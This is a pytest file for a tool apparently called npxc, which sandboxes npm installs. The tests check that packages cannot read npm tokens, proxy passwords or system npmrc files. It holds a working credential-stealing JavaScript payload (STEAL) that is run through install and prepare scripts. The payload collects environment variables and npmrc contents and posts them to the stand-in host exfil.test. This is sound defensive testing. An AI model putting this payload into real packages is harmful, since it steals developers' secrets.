"""What of the user's credentials a package gets to see: none, whatever npm's release and wherever Node lies.

Each attack is tried without npxc first: a test whose attack works nowhere would show nothing.
"""

import base64
import hashlib
import http.server
import io
import json
import os
import pathlib
import shutil
import subprocess
import tarfile
import tempfile
import threading
import urllib.parse

import pytest

from conftest import NPXC, RUNTIME, TOP

pytestmark = pytest.mark.skipif(RUNTIME not in (None, "bwrap"), reason="other runtimes have an image's npm and Node")

NODE = os.path.realpath(shutil.which("node"))
PASSWORD = "pr0xy/pw"
USER = "me:" + urllib.parse.quote(PASSWORD, safe="")
TOKEN = "npm_s3cret"


class Proxy:
    """A forward proxy with a password. Behind it lie registry.test, git.test (dumb http) and exfil.test, which keeps what
    it is told."""

    def __init__(self, gits):
        self.packages, self.told = {}, []
        proxy = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def reply(self, status, body, **headers):
                self.send_response(status)
                for name, value in {"content-length": str(len(body)), **headers}.items():
                    self.send_header(name.replace("_", "-"), value)
                self.end_headers()
                self.wfile.write(body)

            def do_GET(self):
                url = urllib.parse.urlsplit(self.path)
                body = self.rfile.read(int(self.headers.get("content-length") or 0))
                if url.hostname == "exfil.test":
                    proxy.told.append(body.decode())
                    return self.reply(200, b"ok")
                expected = base64.b64encode(f"me:{PASSWORD}".encode()).decode()
                if self.headers.get("proxy-authorization") != f"Basic {expected}":
                    return self.reply(407, b"", proxy_authenticate="Basic")
                file = gits / url.path.lstrip("/")
                if url.hostname == "git.test" and file.is_file():
                    return self.reply(200, file.read_bytes())
                manifest, tarball = proxy.packages.get(urllib.parse.unquote(url.path).strip("/").split("/")[0], (None, None))
                if url.hostname != "registry.test" or manifest is None:
                    return self.reply(404, b"{}")
                if url.path.endswith(".tgz"):
                    return self.reply(200, tarball)
                integrity = "sha512-" + base64.b64encode(hashlib.sha512(tarball).digest()).decode()
                dist = {"tarball": f"http://registry.test/{manifest['name']}/x.tgz", "integrity": integrity}
                self.reply(200, json.dumps({"name": manifest["name"], "dist-tags": {"latest": "1.0.0"},
                                            "versions": {"1.0.0": {**manifest, "dist": dist}}}).encode())

            do_POST = do_GET

            def log_message(self, *_):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.url = f"http://{USER}@127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()

    def add(self, name, files=None, **manifest):
        manifest = {"name": name, "version": "1.0.0", "bin": "main.cjs", **manifest}
        packed = io.BytesIO()
        with tarfile.open(fileobj=packed, mode="w:gz") as tar:
            for path, text in {"package.json": json.dumps(manifest), "main.cjs": "#!/usr/bin/env node\n",
                               **(files or {})}.items():
                entry = tarfile.TarInfo("package/" + path)
                entry.size, entry.mode = len(text), 0o755
                tar.addfile(entry, io.BytesIO(text.encode()))
        if "scripts" in manifest:
            manifest["hasInstallScript"] = True
        self.packages[name] = (manifest, packed.getvalue())


# Whoever runs this sends what it finds of credentials out by the proxy.
STEAL = """
const http = require('http'), fs = require('fs'), env = process.env
let found = Object.entries(env).map(e => e.join('=')).join('\\n')
for (const file of ['/opt/npxc/npm-config/npmrc', env.npm_config_userconfig, env.HOME + '/.npmrc'])
  try { found += '\\n' + fs.readFileSync(file, 'utf8') } catch {}
const proxy = new URL(env.http_proxy || env.HTTP_PROXY || env.npm_config_proxy)
http.request({ host: proxy.hostname, port: proxy.port, method: 'POST', path: 'http://exfil.test/' }, r => r.resume())
  .on('error', () => {}).end(found)
"""


@pytest.fixture
def proxy(tmp_path):
    """With a git repository whose package wants to be prepared: by its own script, by a setting in its own npmrc."""
    work = tmp_path / "work"
    work.mkdir()
    (work / "package.json").write_text(json.dumps({"name": "from-git", "version": "1.0.0",
                                                   "scripts": {"prepare": "node steal.js"}}))
    (work / "steal.js").write_text(STEAL)
    (work / ".npmrc").write_text("ignore-scripts=false\nscript-shell=/bin/sh\n")
    git = ["git", "-c", "user.name=a", "-c", "user.email=a@b", "-C", str(work)]
    for words in (["init", "-q"], ["add", "-A"], ["commit", "-qm", "x"],
                  ["clone", "-q", "--bare", str(work), str(tmp_path / "git" / "x.git")]):
        subprocess.run(git + words, check=True)
    subprocess.run(["git", "-C", str(tmp_path / "git" / "x.git"), "update-server-info"], check=True)
    made = Proxy(tmp_path / "git")
    made.add("plain-one")
    made.add("needs-git", dependencies={"from-git": "git+http://git.test/x.git"})
    made.add("scripted", {"steal.js": STEAL}, scripts={"install": "node steal.js"})
    yield made
    made.server.shutdown()
    made.server.server_close()


def npm_of(release):
    """A directory with `npm` of that release; the releases differ in what they run while they fetch."""
    apart = pathlib.Path(os.environ.get("NPXC_TEST_CACHE", TOP / "build" / f"test-cache-{os.getuid()}")) / f"npm-{release}"
    program = apart / "node_modules/npm/bin/npm-cli.js"
    if not program.exists():
        subprocess.run(["npm", "install", "--prefix", str(apart), "--ignore-scripts", "--no-audit", "--no-fund",
                        f"npm@{release}"], check=True, stdout=subprocess.DEVNULL, stdin=subprocess.DEVNULL)
    (apart / "bin").mkdir(exist_ok=True)
    if not (apart / "bin/npm").is_symlink():
        (apart / "bin/npm").symlink_to(program)
    return str(apart / "bin")


def secrets_in(text):
    return [s for s in (PASSWORD, urllib.parse.quote(PASSWORD, safe=""), TOKEN) if s in text]


@pytest.mark.parametrize("token", [False, True], ids=["password", "password-and-token"])
@pytest.mark.parametrize("release", ["9", "10", "here"])
def test_nothing_of_a_package_runs_while_packages_are_fetched(alone, proxy, tmp_path, release, token):
    if release != "here":
        alone.env["PATH"] = npm_of(release) + ":" + alone.env["PATH"]
    for name in [name for name in alone.env if name.lower().startswith("npm_config_")]:
        del alone.env[name]
    alone.env.update(http_proxy=proxy.url, npm_config_ignore_scripts="false", npm_config_allow_git="all",
                     npm_config_foreground_scripts="true")
    (alone.home / ".npmrc").write_text("registry=http://registry.test/\nfetch-retries=0\n"
                                       + (f"//registry.test/:_authToken={TOKEN}\n" if token else ""))
    bare = tmp_path / "bare"
    bare.mkdir()
    subprocess.run(["npm", "install", "--no-audit", "--no-fund", "--cache", str(tmp_path / "npm"), "needs-git"], cwd=bare,
                   env=alone.env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL)
    assert secrets_in("\n".join(proxy.told)), "npm itself does not run it: the attack is none"
    proxy.told.clear()
    result = alone.run("install", "needs-git")
    assert result.returncode == 3, result.stderr
    assert "it depends on a git repository" in result.stderr
    assert not secrets_in(result.stderr)
    assert proxy.told == []
    # What comes from the registry is fetched by the same proxy.
    result = alone.run("install", "plain-one")
    assert result.returncode == 0, result.stderr
    assert proxy.told == []


def test_install_scripts_get_the_proxys_address_without_its_password(alone, proxy):
    port = proxy.server.server_address[1]
    for name in [name for name in alone.env if name.lower().startswith("npm_config_")]:
        del alone.env[name]
    alone.env["http_proxy"] = proxy.url
    (alone.home / ".npmrc").write_text(f"registry=http://registry.test/\n//registry.test/:_authToken={TOKEN}\n"
                                       f"proxy={proxy.url}\n")
    alone.write_config("packages/scripted.json", {"install": {"allow": [f"host.npxc.internal:{port}"]}})
    result = alone.run("install", "scripted")
    assert result.returncode == 0, result.stderr
    assert len(proxy.told) == 1, "the script did not reach the proxy that it was allowed"
    assert f"http_proxy=http://127.0.0.1:{port}" in proxy.told[0]
    assert secrets_in(proxy.told[0]) == []


# ---- where Node lies ----

LOOK = """#!/usr/bin/env node
const fs = require('fs'), path = require('path'), { spawnSync } = require('child_process')
const prefix = path.dirname(path.dirname(process.execPath)), seen = []
const walk = (directory, depth) => {
  let names = []
  try { names = fs.readdirSync(directory) } catch {}
  for (const name of names) {
    const file = path.join(directory, name), st = fs.lstatSync(file)
    if (st.isDirectory() && depth < 3 && name !== 'npm') walk(file, depth + 1)
    else seen.push(path.relative(prefix, file))
  }
}
walk(prefix, 0)
const npmrc = path.join(prefix, 'lib/node_modules/npm/npmrc')
const text = JSON.stringify({ node: process.execPath, seen: seen.sort(), npm: spawnSync('npm', ['-v']).status,
  npx: spawnSync('npx', ['-v']).status, npmrc: fs.existsSync(npmrc) ? fs.readFileSync(npmrc, 'utf8') : null })
if (process.env.npm_lifecycle_event) fs.writeFileSync('looked.json', text)
else process.stderr.write('\\nLOOKED ' + fs.readFileSync(__dirname + '/looked.json') + '\\nLOOKED ' + text + '\\n')
"""


def looked(result):
    """What the install script and the server saw."""
    found = [json.loads(line[len("LOOKED "):]) for line in result.stderr.splitlines() if line.startswith("LOOKED ")]
    assert len(found) == 2, result.stderr
    return found


@pytest.fixture
def looking():
    with tempfile.TemporaryDirectory(prefix="npxc-package-") as directory:
        os.chmod(directory, 0o755)
        package = pathlib.Path(directory)
        (package / "package.json").write_text(json.dumps({
            "name": "npxc-looking", "version": "1.0.0", "bin": {"npxc-looking": "look.cjs"},
            "scripts": {"postinstall": "node look.cjs"}}))
        (package / "look.cjs").write_text(LOOK)
        yield package


@pytest.mark.parametrize("place", ["opt/node", ".local", ".nvm/versions/node/v1", "."])
def test_of_nodes_prefix_only_what_node_and_npm_need_is_seen(alone, looking, place):
    prefix = alone.home / place
    here = pathlib.Path(os.path.realpath(shutil.which("npm"))).parent.parent
    (prefix / "bin").mkdir(parents=True)
    shutil.copy(NODE, prefix / "bin/node")
    shutil.copytree(here, prefix / "lib/node_modules/npm", symlinks=True)
    (prefix / "bin/npm").symlink_to("../lib/node_modules/npm/bin/npm-cli.js")
    for name in ("etc/npmrc", "lib/node_modules/npm/npmrc", "lib/node_modules/other/index.js", "share/notes", "bin/other",
                 "include/node/node.h", "include/private.h", ".npmrc"):
        (prefix / name).parent.mkdir(parents=True, exist_ok=True)
        (prefix / name).write_text(f"//registry.test/:_authToken={TOKEN}\n")
    alone.env["PATH"] = f"{prefix}/bin:" + alone.env["PATH"]
    result = alone.run(looking)
    assert result.returncode == 0, result.stderr
    installing, running = looked(result)
    parts = ["bin/node", "bin/npm", "bin/npx", "lib/node_modules/npm"]
    assert installing["node"] == running["node"] == "/opt/npxc/node/bin/node"
    assert installing["seen"] == sorted(parts + ["include/node/node.h"])
    assert running["seen"] == parts
    for sight in (installing, running):
        assert (sight["npm"], sight["npx"], sight["npmrc"]) == (0, 0, ""), "npm works, and its own settings are hidden"


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can put files of its own over the system's")
def test_the_systems_own_configuration_of_npm_is_not_seen(alone, tmp_path):
    """In a mount namespace of the test's own: the system's places with a token, each seen by a plain Node there."""
    places = {"/usr/etc": "npmrc", "/usr/local/etc": "npmrc", "/usr/share/nodejs": "npm/npmrc",
              "/usr/local/share": ".npmrc", "/usr/local/lib/node_modules": "npm/npmrc"}
    lines = []
    for number, (directory, name) in enumerate(places.items()):
        planted = tmp_path / str(number)
        (planted / name).parent.mkdir(parents=True)
        (planted / name).write_text(f"//registry.test/:_authToken={TOKEN}\n")
        if pathlib.Path(directory).is_dir():
            lines.append(f"mount --bind {planted} {directory}")
    (tmp_path / "0" / "services").write_text("npxc-test 1/tcp\n")
    read = ("for (const f of %s) try { process.stderr.write('SAW ' + f + ' ' + fs.readFileSync(f, 'utf8') + '\\n') } "
            "catch {}" % json.dumps([f"{d}/{n}" for d, n in places.items()] + ["/usr/etc/services"]))
    package = alone.home / "reader"
    package.mkdir()
    (package / "package.json").write_text(json.dumps({"name": "npxc-reader", "version": "1.0.0", "bin": "main.cjs",
                                                      "scripts": {"install": "node main.cjs >&2; exit 3"}}))
    (package / "main.cjs").write_text("#!/usr/bin/env node\nconst fs = require('fs')\n" + read + "\n")
    script = "set -e\n" + "\n".join(lines) + f"\n{NODE} {package}/main.cjs\necho BOUNDARY >&2\n" \
        + f"'{NPXC}' '{package}' || true\nrm '{package}/package.json'\n" \
        + "echo '{\"name\":\"npxc-reader\",\"version\":\"1.0.1\",\"bin\":\"main.cjs\"}' >" + f"'{package}/package.json'\n" \
        + f"exec '{NPXC}' '{package}'\n"
    result = subprocess.run(["unshare", "-m", "sh", "-c", script], env=alone.env, cwd=alone.project, text=True,
                            stdin=subprocess.DEVNULL, capture_output=True)
    assert result.returncode == 0, result.stderr
    bare, inside = result.stderr.split("BOUNDARY")
    assert bare.count(TOKEN) == len(lines), "the places are not where a Node finds them"
    assert TOKEN not in inside
    # The failed install script quotes its last words, the server speaks for itself: both have looked.
    assert "install script of npxc-reader failed" in inside
    assert "SAW /usr/etc/services npxc-test" in inside, "what is public of such a directory stays"
